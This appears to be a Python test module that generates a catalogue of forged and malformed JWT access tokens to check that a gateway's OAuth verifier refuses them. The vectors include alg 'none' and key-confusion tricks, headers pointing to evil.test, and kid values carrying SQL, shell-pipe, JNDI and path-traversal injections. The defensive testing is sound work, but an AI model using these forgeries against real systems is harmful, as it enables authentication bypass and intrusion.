"""Every known way to make a token that is not one of ours pass for one, made from the keys of the server under attack.

Each vector is an Authorization value. Where only our reading can refuse it, its signature is a true one, by our own key.
"""

import hmac
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from hashlib import sha256, sha512
from typing import Any

from gateway.oauth.access_token import Bearer
from gateway.oauth.jws import decode
from gateway.oauth.server import AuthorizationServer
from tests.gateway.oauth.holding import ORDER, Holder, encoded, mirrored, rsa

URL = "https://api.example.test"


@dataclass(frozen=True)
class Forge:
    """The server under attack: its public half, and, to show that the signature is not what refuses, its private one."""

    server: AuthorizationServer
    now: int
    scopes: str

    @property
    def ours(self) -> Holder:
        key = self.server.trust.active_key()
        return Holder("ES256", key.kid, key.key)

    @property
    def header(self) -> dict[str, Any]:
        return {"alg": "ES256", "typ": "at+jwt", "kid": self.ours.kid}

    @property
    def claims(self) -> dict[str, Any]:
        return {
            "iss": URL,
            "aud": URL,
            "sub": "tvc_victim",
            "client_id": "tvc_victim",
            "scope": self.scopes,
            "iat": self.now,
            "exp": self.now + 600,
            "jti": "attack-1",
            "plan": "default",
        }

    def true(self, header: Mapping[str, Any] | bytes | None = None, claims: Mapping[str, Any] | bytes | None = None) -> str:
        """Truly signed by us, with these members changed (None: left out) or these bytes instead."""
        return self.ours.sign(_changed(self.header, header), _changed(self.claims, claims))

    def parts(self) -> tuple[str, str, str]:
        head, body, signature = self.true().split(".")
        return head, body, signature

    def unsigned(self, header: Mapping[str, Any], signature: bytes = b"") -> str:
        text = b".".join(encoded(json.dumps(part).encode()) for part in (self.header | header, self.claims))
        return (text + b"." + encoded(signature)).decode()

    def hmac_by(self, secret: bytes, alg: str = "HS256") -> str:
        text = b".".join(encoded(json.dumps(part).encode()) for part in (self.header | {"alg": alg}, self.claims))
        digest = hmac.digest(secret, text, sha512 if alg == "HS512" else sha256)
        return (text + b"." + encoded(digest)).decode()


def _changed(usual: dict[str, Any], change: Mapping[str, Any] | bytes | None) -> dict[str, Any] | bytes:
    if isinstance(change, bytes):
        return change
    return {name: value for name, value in (usual | dict(change or {})).items() if value is not None}


Make = Callable[[Forge], str]


def _confusion() -> dict[str, Make]:
    """The algorithm is chosen by the attacker."""
    found: dict[str, Make] = {}
    for spelled in ("none", "None", "NONE", "nOnE", "", "none\u0000", "null"):
        found[f"alg {spelled!r} without a signature"] = lambda f, a=spelled: f.unsigned({"alg": a})
        found[f"alg {spelled!r} with our signature"] = lambda f, a=spelled: f.true({"alg": a})
    secrets: dict[str, Callable[[Forge], bytes]] = {
        "PEM": lambda f: bytes(f.ours.key.as_pem(private=False)),
        "PEM without its last line break": lambda f: bytes(f.ours.key.as_pem(private=False)).rstrip(),
        "DER": lambda f: bytes(f.ours.key.as_der(private=False)),
        "JWK": lambda f: json.dumps(f.ours.jwk).encode(),
        "x": lambda f: decode(f.ours.jwk["x"].encode()),
        "kid": lambda f: f.ours.kid.encode(),
        "nothing": lambda f: b"",
    }
    for named, secret in secrets.items():
        for alg in ("HS256", "HS512", "ES256"):
            found[f"{alg} by HMAC with our public key as {named}"] = lambda f, s=secret, a=alg: f.hmac_by(s(f), a)
    for alg in ("RS256", "PS256", "EdDSA", "ES384", "ES256K", "ES512", "Ed25519", "es256", "ES256 ", "dir", "A128KW"):
        found[f"our signature called {alg}"] = lambda f, a=alg: f.true({"alg": a})
    found["an alg that is no text"] = lambda f: f.true({"alg": ["ES256"]})
    found["no alg"] = lambda f: f.true({"alg": None})
    found["an RSA signature under our kid"] = lambda f: rsa().sign(f.header | {"alg": "RS256"}, f.claims)
    found["another curve under our kid"] = lambda f: Holder("ES384").sign(f.header | {"alg": "ES384"}, f.claims)
    found["another curve called ES256"] = lambda f: Holder("ES384").sign(f.header, f.claims)
    found["an Ed25519 signature under our kid"] = lambda f: Holder("EdDSA").sign(f.header | {"alg": "EdDSA"}, f.claims)
    return found


def _keys() -> dict[str, Make]:
    """The key is brought along, or its name leads somewhere."""
    thief = Holder()
    brought: dict[str, Any] = {
        "jwk": thief.jwk,
        "jku": "https://evil.test/jwks.json",
        "x5u": "https://evil.test/cert.pem",
        "x5c": ["MIIB"],
        "x5t": "AAAA",
        "x5t#S256": "A" * 43,
        "jwks": {"keys": [thief.jwk]},
        "cty": "JWT",
        "zip": "DEF",
        "b64": False,
        "crit": ["b64"],
        "p2c": 2**31,
        "enc": "A256GCM",
        "url": "https://evil.test",
        "nonce": "n",
        "iss": URL,
    }
    found: dict[str, Make] = {}
    for member, value in brought.items():
        found[f"a stranger's key and {member}"] = lambda f, m=member, v=value: thief.sign(f.header | {m: v}, f.claims)
        found[f"{member} in the header, truly signed"] = lambda f, m=member, v=value: f.true({m: v})
    found["b64 that is critical"] = lambda f: f.true({"b64": False, "crit": ["b64"]})
    found["an empty crit"] = lambda f: f.true({"crit": []})
    found["a stranger's key and no kid"] = lambda f: thief.sign({"alg": "ES256", "typ": "at+jwt"}, f.claims)
    found["a stranger's key under our kid"] = lambda f: thief.sign(f.header, f.claims)
    names = (
        "../../../../dev/null",
        "/dev/null",
        "file:///etc/passwd",
        "https://evil.test/key",
        "' OR 1=1 --",
        "x' UNION SELECT 'AAAA",
        "\x00",
        "key\u0000",
        "| /bin/sh -c id",
        "${jndi:ldap://evil.test}",
        "%2e%2e%2f",
        "\u202e",
        "*",
        "0",
        "__class__",
        "__proto__",
        " ",
        "",
    )
    for name in names:
        found[f"the key {name!r}"] = lambda f, n=name: f.true({"kid": n})
    for odd in (0, 7, True, [], ["k"], {}, {"$ne": None}):
        found[f"the key {odd!r}"] = lambda f, n=odd: f.true({"kid": n})
    found["our key's name with a zero behind it"] = lambda f: f.true({"kid": f.ours.kid + "\u0000"})
    found["our key's name in a list"] = lambda f: f.true({"kid": [f.ours.kid]})
    found["a key name of 5 kB"] = lambda f: f.true({"kid": "k" * 5000})
    found["a key name of 400 bytes"] = lambda f: f.true({"kid": "k" * 400})
    return found


def _claims() -> dict[str, Make]:
    """What a token says is wrong, missing, or said twice."""
    found: dict[str, Make] = {}
    wrong: dict[str, tuple[Any, ...]] = {
        "iss": (None, "", URL + "/", URL.upper(), "https://evil.test", [URL], 7, URL + "\u0000", {"a": URL}),
        "aud": (None, "", URL + "/", "https://evil.test", ["https://evil.test"], [], [[URL]], {"0": URL}, 7, [URL, 7], URL + " "),
        "sub": (None, "", 7, ["tvc_victim"]),
        "client_id": (None, "", 7, ["tvc_victim"], {"a": 1}),
        "jti": (None, "", 7, ["a"]),
        "scope": (None, "", ["orders:read"], 7, {"a": "b"}),
        "plan": (7, ["gold"], {}),
        "accounts": ("A1", [1], {"A1": 1}, 7, True),
        "partner": (7, ["p"], {}),
        "cnf": ({}, None, {"jkt": "A" * 43}, {"x5t#S256": "A" * 43}, {"jwk": {}}, "A", [], {"jkt": None}, {"jkt": ["A" * 43]}),
    }
    for name, values in wrong.items():
        for value in values:
            if (name, value) != ("cnf", None):
                found[f"{name} = {value!r}"] = lambda f, n=name, v=value: f.true(None, {n: v})
    found["a binding to nothing"] = lambda f: f.true(None, json.dumps(f.claims | {"cnf": None}).encode())
    times: dict[str, Callable[[int], dict[str, Any]]] = {
        "expired now": lambda now: {"exp": now},
        "expired long ago": lambda now: {"iat": now - 9000, "exp": now - 8400},
        "end before its beginning": lambda now: {"exp": now - 1, "iat": now},
        "issued in the future": lambda now: {"iat": now + 60},
        "not before the future": lambda now: {"nbf": now + 60},
        "living for ten days": lambda now: {"exp": now + 864_000},
        "living for ever": lambda _: {"exp": 2**63},
        "an end of 400 digits": lambda _: {"exp": 10**400},
        "an end in text": lambda now: {"exp": str(now + 600)},
        "an end with a fraction": lambda now: {"exp": now + 0.5},
        "an end that is true": lambda _: {"exp": True},
        "an end in a list": lambda now: {"exp": [now + 600]},
        "no end": lambda _: {"exp": None},
        "no beginning": lambda _: {"iat": None},
        "a beginning in text": lambda now: {"iat": str(now)},
        "a negative end": lambda _: {"exp": -1},
        "a beginning before time": lambda now: {"iat": -(2**70)},
        "nbf in text": lambda now: {"nbf": str(now)},
    }
    for named, change in times.items():
        found[named] = lambda f, c=change: f.true(None, c(f.now))
    for typ in (
        "JWT",
        "jwt",
        "id+jwt",
        "dpop+jwt",
        "rt+jwt",
        "logout+jwt",
        "at+jwt ",
        "at+jwt;x",
        "application/jwt",
        "",
        "ATJWT",
        "\u0430t+jwt",
    ):
        found[f"typ {typ!r}"] = lambda f, t=typ: f.true({"typ": t})
    for odd in (None, 7, ["at+jwt"], True):
        found[f"typ {odd!r}"] = lambda f, t=odd: f.true({"typ": t})
    return found


def _json() -> dict[str, Make]:
    """The same bytes would be read in another way by another parser, or would hurt ours."""

    def said(change: Callable[[str], str | bytes], where: str) -> Make:
        def make(f: Forge) -> str:
            parts = {"header": json.dumps(f.header), "claims": json.dumps(f.claims)}
            changed = change(parts[where])
            parts_raw = {name: text.encode() for name, text in parts.items()}
            parts_raw[where] = changed if isinstance(changed, bytes) else changed.encode("utf-8", "surrogatepass")
            return f.ours.sign(parts_raw["header"], parts_raw["claims"])

        return make

    found: dict[str, Make] = {}
    in_both: dict[str, Callable[[str], str | bytes]] = {
        "in UTF-16": lambda t: t.encode("utf-16"),
        "in UTF-32": lambda t: t.encode("utf-32"),
        "in UTF-7": lambda t: b"+AHs-" + t[1:].encode(),
        "with a byte order mark": lambda t: "\ufeff" + t,
        "with a comment": lambda t: t[:-1] + "/* */}",
        "with a trailing comma": lambda t: t[:-1] + ",}",
        "with single quotes": lambda t: t.replace('"', "'"),
        "with rubbish behind": lambda t: t + "{}",
        "in a list": lambda t: f"[{t}]",
        "in a text": json.dumps,
        "that is null": lambda _: "null",
        "that is empty": lambda _: "{}",
        "of 3000 brackets": lambda _: "[" * 3000,
        "nested 900 deep": lambda _: '{"a":' * 900 + "1" + "}" * 900,
        "nested deep behind what is good": lambda t: t[:-1] + ',"x":' + "[" * 200 + "]" * 200 + "}",
        "with NaN": lambda t: t[:-1] + ',"x": NaN}',
        "with Infinity": lambda t: t[:-1] + ',"x": -Infinity}',
        "with a number of 5000 digits": lambda t: t[:-1] + ',"x": ' + "9" * 5000 + "}",
        "with half a character": lambda t: t[:-1] + ',"x": "\\ud800"}',
        "with bytes that are no UTF-8": lambda t: t[:-1].encode() + b',"x": "\xff"}',
        "with a zero byte": lambda t: t[:-1] + "\x00}",
        "with overlong UTF-8": lambda t: t[:-1].encode() + b',"x": "\xc0\xae"}',
        "with a surrogate in UTF-8": lambda t: t[:-1] + ',"x": "\ud800"}',
        "longer than any": lambda t: t[:-1] + f',"x": "{"y" * 9000}"}}',
    }
    for named, change in in_both.items():
        for where in ("header", "claims"):
            found[f"{where} {named}"] = said(change, where)
    twice = {
        "header": ('"alg": "none"', '"alg": "ES256"', '"\\u0061lg": "ES256"', '"kid": "x"', '"typ": "JWT"'),
        "claims": (
            '"sub": "tvc_admin"',
            '"scope": "gateway:write"',
            '"\\u0073cope": "gateway:write"',
            '"exp": 9999999999',
            '"iss": "https://evil.test"',
        ),
    }
    for where, members in twice.items():
        for member in members:
            found[f"{where} with a second {member}"] = said(lambda t, m=member: f"{t[:-1]}, {m}}}", where)
            found[f"{where} with a first {member}"] = said(lambda t, m=member: f"{{{m}, {t[1:]}", where)
    return found


def _signatures() -> dict[str, Make]:
    """Numbers that are no signature, or the same one spelled differently."""
    n = ORDER.to_bytes(32)
    zero, one, full = bytes(32), (1).to_bytes(32), b"\xff" * 32
    raw = {
        "r = s = 0": zero + zero,
        "r = 0": zero + one,
        "s = 0": one + zero,
        "r = s = 1": one + one,
        "r = s = n": n + n,
        "r = n, s = 0": n + zero,
        "of ones": full + full,
        "empty": b"",
        "of one byte": b"\x00",
        "of 63 bytes": bytes(63),
        "of 65 bytes": bytes(65),
        "of 132 bytes": bytes(132),
    }
    found: dict[str, Make] = {f"a signature {named}": lambda f, s=value: f.unsigned({}, s) for named, value in raw.items()}

    def changed(how: Callable[[bytes], bytes]) -> Make:
        return lambda f: ".".join((*f.parts()[:2], encoded(how(decode(f.parts()[2].encode()))).decode()))

    def _respelled(how: Callable[[str, str, str], str]) -> Make:
        return lambda f: how(*f.parts())

    found["the mirror image of our signature"] = lambda f: _mirrored(f.true())
    found["our signature in DER"] = changed(lambda s: b"\x30\x44\x02\x20" + s[:32] + b"\x02\x20" + s[32:])
    found["our signature, its halves exchanged"] = changed(lambda s: s[32:] + s[:32])
    found["our signature with a byte more"] = changed(lambda s: s + b"\x00")
    found["our signature with a byte less"] = changed(lambda s: s[:-1])
    found["our signature of something else"] = lambda f: ".".join((*f.parts()[:2], f.true(None, {"jti": "other"}).split(".")[2]))
    spellings: dict[str, Callable[[str, str, str], str]] = {
        "padding": lambda h, b, s: f"{h}.{b}.{s}==",
        "a line break": lambda h, b, s: f"{h}.{b}.{s}\n",
        "a blank": lambda h, b, s: f"{h}. {b}.{s}",
        "a fourth part": lambda h, b, s: f"{h}.{b}.{s}.x",
        "five parts": lambda h, b, s: f"{h}.{b}.{s}.x.y",
        "two parts": lambda h, b, _: f"{h}.{b}",
        "no signature": lambda h, b, _: f"{h}.{b}.",
        "no header": lambda _, b, s: f".{b}.{s}",
        "an empty body": lambda h, _, s: f"{h}..{s}",
        "another last character": lambda h, b, s: f"{h}.{b}.{s[:-1]}{_neighbour(s[-1])}",
        "a tilde": lambda h, b, s: f"{h}.{b}.{s}~",
        "plus and slash": lambda h, b, s: f"{h}.{b}.{s[:-1]}+",
        "a percent sign": lambda h, b, s: f"{h}%2E{b}%2E{s}",
        "quotes": lambda h, b, s: f'"{h}.{b}.{s}"',
        "a second token": lambda h, b, s: f"{h}.{b}.{s}, {h}.{b}.{s}",
        "a parameter": lambda h, b, s: f"{h}.{b}.{s}; a=b",
        "two blanks before it": lambda h, b, s: f" {h}.{b}.{s}",
        "a tab before it": lambda h, b, s: f"\t{h}.{b}.{s}",
        "the flattened form": lambda h, b, s: json.dumps({"protected": h, "payload": b, "signature": s}),
        "itself as its own body": lambda h, b, s: f"{h}.{encoded(f'{h}.{b}.{s}'.encode()).decode()}.{s}",
    }
    for named, how in spellings.items():
        found[f"our token with {named}"] = _respelled(how)
    return found


def _mirrored(token: str) -> str:
    text, _, signature = token.rpartition(".")
    return f"{text}.{encoded(mirrored(decode(signature.encode()))).decode()}"


def _neighbour(character: str) -> str:
    """Decodes to the same bits where only the first ones count."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return alphabet[alphabet.index(character) ^ 1]


def _rubbish() -> dict[str, Make]:
    found: dict[str, Make] = {}
    for text in (
        "",
        " ",
        ".",
        "..",
        "...",
        "a",
        "a.b",
        "a.b.c",
        "null",
        "undefined",
        "\x00",
        "\u00ff.\u00ff.\u00ff",
        "eyJ",
        "Bearer",
        "{}",
        "' OR '1'='1",
    ):
        found[f"the token {text!r}"] = lambda _, t=text: t
    for size in (8193, 12_000):
        found[f"{size} bytes"] = lambda _, s=size: "a" * s
        found[f"{size} bytes in three parts"] = lambda _, s=size: f"{'a' * (s // 2)}.{'b' * (s // 2)}.c"
    found["a proof of possession"] = lambda f: f.ours.sign({"alg": "ES256", "typ": "dpop+jwt", "jwk": f.ours.jwk}, f.claims)
    found["a token of the inner doors"] = lambda f: f.server.tokens.sign("tvc_victim", f.scopes.split(), _inner(f))
    return found


def _inner(forge: Forge) -> Bearer:
    return Bearer(audiences=forge.server.names.inner.audiences)


VECTORS: Mapping[str, Make] = _confusion() | _keys() | _claims() | _json() | _signatures() | _rubbish()
